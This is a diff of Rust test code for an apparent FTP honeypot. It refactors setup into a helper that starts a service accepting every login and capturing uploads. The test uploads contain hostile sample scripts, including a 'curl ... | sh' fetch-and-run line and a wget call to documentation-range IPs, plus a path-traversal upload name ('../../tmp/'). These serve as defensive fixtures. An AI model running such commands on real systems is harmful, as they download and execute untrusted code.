@@ -34,20 +34,26 @@ ftp.storbinary("STOR ../../tmp/x y.sh", io.BytesIO(bytes.fromhex(sys.argv[3])))
 print("QUIT", ftp.quit())
 "#;
 
+/// An ftp service that accepts every login and keeps uploads in the returned directory.
+fn capturing_ftp(n: u8, name: &str, distro: &str) -> (tempfile::TempDir, Service) {
+    let artifacts = tempfile::tempdir().expect("tempdir");
+    let dir = artifacts.path().to_string_lossy().into_owned();
+    let svc = Service::start(
+        "ftp",
+        &seed(n),
+        name,
+        distro,
+        &[("FTP_LOGIN_MODE", "always"), ("FTP_ARTIFACTS_DIR", &dir)],
+    );
+    (artifacts, svc)
+}
+
 #[test]
 fn ftplib_session_is_logged_and_uploads_are_captured() {
     if !tool("python3") {
         return;
     }
-    let artifacts = tempfile::tempdir().expect("tempdir");
-    let dir = artifacts.path().to_string_lossy().into_owned();
-    let mut svc = Service::start(
-        "ftp",
-        &seed(1),
-        "files-01",
-        "ubuntu22",
-        &[("FTP_LOGIN_MODE", "always"), ("FTP_ARTIFACTS_DIR", &dir)],
-    );
+    let (artifacts, mut svc) = capturing_ftp(1, "files-01", "ubuntu22");
     let upload = b"#!/bin/sh\nwget http://203.0.113.5/x\n".to_vec();
     let out = run(Command::new("python3").args([
         "-c",
@@ -152,15 +158,7 @@ fn active_mode_connects_back_to_the_client_only() {
     if !tool("python3") {
         return;
     }
-    let artifacts = tempfile::tempdir().expect("tempdir");
-    let dir = artifacts.path().to_string_lossy().into_owned();
-    let mut svc = Service::start(
-        "ftp",
-        &seed(3),
-        "files-03",
-        "debian",
-        &[("FTP_LOGIN_MODE", "always"), ("FTP_ARTIFACTS_DIR", &dir)],
-    );
+    let (artifacts, mut svc) = capturing_ftp(3, "files-03", "debian");
     let upload = b"#!/bin/sh\ncurl -s http://198.51.100.9/a | sh\n".to_vec();
     let out = run(Command::new("python3").args([
         "-c",
